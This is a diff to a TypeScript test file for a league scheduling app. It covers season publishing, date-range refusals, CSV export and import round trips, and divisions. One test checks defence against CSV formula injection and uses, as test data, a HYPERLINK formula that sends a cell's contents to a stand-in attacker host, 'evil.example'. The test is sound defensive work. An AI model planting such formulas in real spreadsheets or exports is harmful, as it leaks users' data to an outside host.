@@ -1,14 +1,16 @@
 // Issue 19: the season builder's routes (preview, publish with Idempotency-Key, the overlap 409),
 // the referees' unavailable dates, the CSV export's round trip through the import, and every class
 // of bad input.
+import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ImportResult } from '../../../common/import/sports-connect';
 import { BookingIndex, gameLengthMs } from '../../../common/schedule/booking';
 import type { SeasonBodyInput, SeasonOverlapErrorBody, SeasonPreviewDto, SeasonPublishDto } from '../../../common/schemas/schedule';
+import { GAMES_TEXT } from '../../../common/schemas/games/texts';
 import { SERVER_TEXT } from '../../../common/texts';
 import { utcToWallClock } from '../../../common/time';
-import { fields, games, leagues, teams } from '../../db/schema';
+import { fields, games, leagues, teams, users } from '../../db/schema';
 import { buildLeague, buildUser, signIn, startTestServer, type ApiClient, type BuiltUser, type TestServer } from '../../test/helpers';
 import type { League } from '../leagues/store';
 
@@ -80,6 +82,10 @@ describe('POST /api/leagues/{slug}/schedule/preview and /publish', () => {
     const again = await s.admin.request<SeasonPublishDto>('POST', path(s, 'publish'), bodyOf(s), { headers });
     expect(again.status).toBe(201);
     expect(again.headers.get('idempotent-replayed')).toBe('true');
+    // the same key with another body: 422, nothing published
+    const reused = await s.admin.request<{ message: string }>('POST', path(s, 'publish'), bodyOf(s, { rounds: 1, startDate: '2027-03-06' }), { headers });
+    expect(reused.status).toBe(422);
+    expect(reused.body.message).toBe(GAMES_TEXT.idempotencyKeyReused);
     const rows = await leagueGames(s.league.id);
     expect(rows).toHaveLength(56);
     noDoubleBooking(rows);
@@ -202,14 +208,80 @@ describe('refusals', () => {
   });
 });
 
+// Issue 33 item 5: a date far from today answered 500 (9999-12-31: PostgreSQL's "time zone
+// displacement out of range") or was published where the game API and the import refuse it (1970,
+// 2101, 9000), so the export could not be imported back. Every date is in 2000-2100, or 400.
+describe('dates outside 2000-2100', () => {
+  const RANGE = 'must be between 2000-01-01 and 2100-12-31';
+
+  it('are refused with 400 naming the field in every date of the builder and of the unavailable dates; nothing is written', async () => {
+    const s = await season();
+    const cases: [Partial<SeasonBodyInput>, string][] = [
+      [{ startDate: '9999-12-31' }, 'Start date'],
+      [{ startDate: '1970-01-01' }, 'Start date'],
+      [{ startDate: '1999-12-31' }, 'Start date'],
+      [{ startDate: '2101-01-01' }, 'Start date'],
+      [{ startDate: '9000-06-03' }, 'Start date'],
+      [{ startDate: '0000-01-01' }, 'Start date'],
+      [{ startDate: '2100-12-04', endDate: '2101-01-01' }, 'End date'],
+      [{ blackoutDates: ['2026-12-12', '9999-12-31'] }, 'Blackout dates.1'],
+      [{ teamBlackouts: [{ teamId: s.teamIds[0]!, date: '1999-12-31' }] }, 'Team blackouts.0.date'],
+    ];
+    for (const [extra, field] of cases) {
+      for (const what of ['preview', 'publish']) {
+        const res = await s.admin.post<{ message: string }>(path(s, what), { ...bodyOf(s), ...extra });
+        expect(res.status, `${what} ${JSON.stringify(extra)}: ${res.body.message}`).toBe(400);
+        expect(res.body.message).toBe(`${field} ${RANGE}`);
+      }
+    }
+    expect(await leagueGames(s.league.id)).toHaveLength(0);
+    for (const date of ['9999-12-31', '1970-01-01', '2101-01-01']) {
+      const res = await s.referees[0]!.request<{ message: string }>('PUT', '/api/referees/me/unavailable-dates', { dates: ['2026-12-05', date] });
+      expect(res.status, date).toBe(400);
+      expect(res.body.message).toBe(`Dates.1 ${RANGE}`);
+    }
+    expect((await s.referees[0]!.get('/api/referees/me/unavailable-dates')).body).toEqual({ dates: [] });
+  });
+
+  it('the first and last days are taken; a season with no end date stops at 2100-12-31, so its export imports back', async () => {
+    const s = await season();
+    const first = await s.admin.post<SeasonPreviewDto>(path(s, 'preview'), bodyOf(s, { startDate: '2000-01-01', endDate: '2000-01-01' }));
+    expect(first.status).toBe(200);
+    expect(first.body.games).toHaveLength(4);
+    const dates = await s.referees[0]!.request('PUT', '/api/referees/me/unavailable-dates', { dates: ['2100-12-31', '2000-01-01'] });
+    expect(dates.body).toEqual({ dates: ['2000-01-01', '2100-12-31'] });
+
+    // Saturdays of December 2100: the 4th, 11th, 18th and 25th; 8 teams play 4 games a Saturday
+    const last = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), bodyOf(s, { startDate: '2100-12-04' }));
+    expect(last.status).toBe(201);
+    expect(last.body.gamesCreated).toBe(16);
+    const wallDates = (await leagueGames(s.league.id)).map((g) => utcToWallClock(g.scheduledDate, s.league.timezone)).map((t) => `${t.year}-${String(t.month).padStart(2, '0')}-${String(t.day).padStart(2, '0')}`);
+    expect([...new Set(wallDates)].sort()).toEqual(['2100-12-04', '2100-12-11', '2100-12-18', '2100-12-25']);
+
+    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
+    const empty = await buildLeague(server, { timezone: 'America/New_York' });
+    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
+    const imported = await importInto(emptyAdmin, empty.slug, await res.text());
+    expect(imported.status).toBe(200);
+    expect(imported.body).toMatchObject({ gamesCreated: 16, errors: [] });
+  });
+});
+
+async function importInto(client: ApiClient, slug: string, csv: string) {
+  const form = new FormData();
+  form.append('leagueSlug', slug);
+  form.append('csvFile', new Blob([csv]), 'season.csv');
+  const res = await fetch(`${server.url}/api/import/sports-connect`, { method: 'POST', body: form, headers: { cookie: client.cookie ?? '' } });
+  return { status: res.status, body: (await res.json()) as ImportResult };
+}
+
 describe('GET /api/leagues/{slug}/schedule.csv', () => {
-  async function importInto(client: ApiClient, slug: string, csv: string) {
-    const form = new FormData();
-    form.append('leagueSlug', slug);
-    form.append('csvFile', new Blob([csv]), 'season.csv');
-    const res = await fetch(`${server.url}/api/import/sports-connect`, { method: 'POST', body: form, headers: { cookie: client.cookie ?? '' } });
-    return { status: res.status, body: (await res.json()) as ImportResult };
-  }
+  const names = async (leagueId: number) => {
+    const teamNames = new Map((await server.deps.db.select().from(teams).where(eq(teams.leagueId, leagueId))).map((t) => [t.id, t.name]));
+    return (await leagueGames(leagueId))
+      .map((g) => `${teamNames.get(g.homeTeamId)} v ${teamNames.get(g.awayTeamId)} ${g.scheduledDate.toISOString()} ${g.field} ${g.status} ${g.homeScore}-${g.awayScore}`)
+      .sort();
+  };
 
   it("writes the season in the import's columns: exported, then imported into an empty league, every game comes back", async () => {
     const s = await season();
@@ -229,12 +301,81 @@ describe('GET /api/leagues/{slug}/schedule.csv', () => {
     expect(imported.status).toBe(200);
     expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });
 
-    const names = async (leagueId: number) => {
-      const teamNames = new Map((await server.deps.db.select().from(teams).where(eq(teams.leagueId, leagueId))).map((t) => [t.id, t.name]));
-      return (await leagueGames(leagueId))
-        .map((g) => `${teamNames.get(g.homeTeamId)} v ${teamNames.get(g.awayTeamId)} ${g.scheduledDate.toISOString()} ${g.field} ${g.status} ${g.homeScore}-${g.awayScore}`)
-        .sort();
-    };
     expect(await names(empty.id)).toEqual(await names(s.league.id));
+  });
+
+  it("writes a cell a spreadsheet would run as a formula with a leading ' (OWASP), and the import takes it off again", async () => {
+    const s = await season();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
+    const renamed = [formula, '+1 Tigers', '-Lions', '@Bears'];
+    for (const [i, name] of renamed.entries()) await server.deps.db.update(teams).set({ name }).where(eq(teams.id, s.teamIds[i]!));
+    await server.deps.db.update(fields).set({ name: '@SUM(A1:A9)' }).where(eq(fields.id, s.fieldIds[3]!));
+    for (const referee of s.refereeUsers) await server.deps.db.update(users).set({ firstName: formula, lastName: '' }).where(eq(users.id, referee.id));
+    expect((await s.admin.post(path(s, 'publish'), bodyOf(s))).status).toBe(201);
+    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
+    const csv = await res.text();
+    const cells = parse(csv) as string[][];
+    const written = new Set(cells.slice(1).flatMap((row) => [row[3], row[4], row[8], row[12]]));
+    for (const name of [...renamed, '@SUM(A1:A9)']) {
+      expect(written).toContain(`'${name}`);
+      expect(written).not.toContain(name);
+    }
+    expect(cells.slice(1).every((row) => row[12] === `'${formula}`)).toBe(true);
+
+    const empty = await buildLeague(server, { timezone: 'America/New_York' });
+    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
+    const imported = await importInto(emptyAdmin, empty.slug, csv);
+    expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });
+    expect(await names(empty.id)).toEqual(await names(s.league.id));
+  });
+});
+
+describe('a division\'s season (issue 34)', () => {
+  it('builds U10 and then U12 on the same fields and Saturdays with no field, team or referee double-booked', async () => {
+    const s = await season();
+    const division = async (name: string) => (await s.admin.post<{ id: number }>(`/api/leagues/${s.league.slug}/divisions`, { name })).body.id;
+    const [u10, u12] = [await division('U10'), await division('U12')];
+    const teamsOf = async (divisionId: number, prefix: string) =>
+      Promise.all(Array.from({ length: 6 }, async (_, i) => (await s.admin.post<{ id: number }>('/api/teams', { name: `${prefix} ${i + 1}`, divisionId })).body.id));
+    const [u10Teams, u12Teams] = [await teamsOf(u10, 'Cubs'), await teamsOf(u12, 'Bears')];
+    const twoFields = (extra: Partial<SeasonBodyInput>) => bodyOf(s, { rounds: 1, slots: ['09:00', '10:15'].flatMap((time) => s.fieldIds.slice(0, 2).map((fieldId) => ({ weekday: 6, time, fieldId }))), ...extra });
+
+    const first = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), twoFields({ divisionId: u10 }));
+    expect(first.status).toBe(201);
+    expect(first.body.gamesCreated).toBe(15);
+    for (const g of first.body.games) expect([g.homeTeamId, g.awayTeamId].every((id) => u10Teams.includes(id))).toBe(true);
+    // U10's games on those Saturdays are another division's season, not this one published twice
+    const preview = await s.admin.post<{ overlapping: unknown[] }>(path(s, 'preview'), twoFields({ divisionId: u12 }));
+    expect(preview.body.overlapping).toEqual([]);
+    const second = await s.admin.post<SeasonPublishDto>(path(s, 'publish'), twoFields({ divisionId: u12 }));
+    expect(second.status).toBe(201);
+    expect(second.body.gamesCreated).toBe(15);
+    for (const g of second.body.games) expect([g.homeTeamId, g.awayTeamId].every((id) => u12Teams.includes(id))).toBe(true);
+
+    const rows = await leagueGames(s.league.id);
+    expect(rows).toHaveLength(30);
+    noDoubleBooking(rows);
+    expect(new Set(rows.map((g) => g.field))).toEqual(new Set(['Field 1', 'Field 2']));
+    const listed = await s.admin.get<{ divisionId: number | null }[]>(`/api/leagues/${s.league.slug}/games?divisionId=${u12}`);
+    expect(listed.body).toHaveLength(15);
+    // U10 again over its own weeks is still a season published twice
+    expect((await s.admin.post(path(s, 'publish'), twoFields({ divisionId: u10 }))).status).toBe(409);
+  });
+
+  it("refuses another division's teams and another league's division, writing nothing", async () => {
+    const s = await season();
+    const u10 = (await s.admin.post<{ id: number }>(`/api/leagues/${s.league.slug}/divisions`, { name: 'U10' })).body.id;
+    const cubs = (await s.admin.post<{ id: number }>('/api/teams', { name: 'Cubs', divisionId: u10 })).body.id;
+    const wrongTeam = await s.admin.post(path(s, 'preview'), bodyOf(s, { divisionId: u10, teamIds: [cubs, s.teamIds[0]!] }));
+    expect(wrongTeam.status).toBe(400);
+    expect(wrongTeam.body.message).toBe(`Team ${s.teamIds[0]} is not a team of the division U10`);
+    const other = await season();
+    const theirs = (await other.admin.post<{ id: number }>(`/api/leagues/${other.league.slug}/divisions`, { name: 'Theirs' })).body.id;
+    const foreign = await s.admin.post(path(s, 'publish'), bodyOf(s, { divisionId: theirs }));
+    expect(foreign.status).toBe(400);
+    expect(foreign.body.message).toBe(`Division ${theirs} is not a division of this league`);
+    // one team in the division: no season
+    expect((await s.admin.post(path(s, 'preview'), bodyOf(s, { divisionId: u10 }))).body.message).toBe('A season needs at least 2 teams');
+    expect(await leagueGames(s.league.id)).toHaveLength(0);
   });
 });
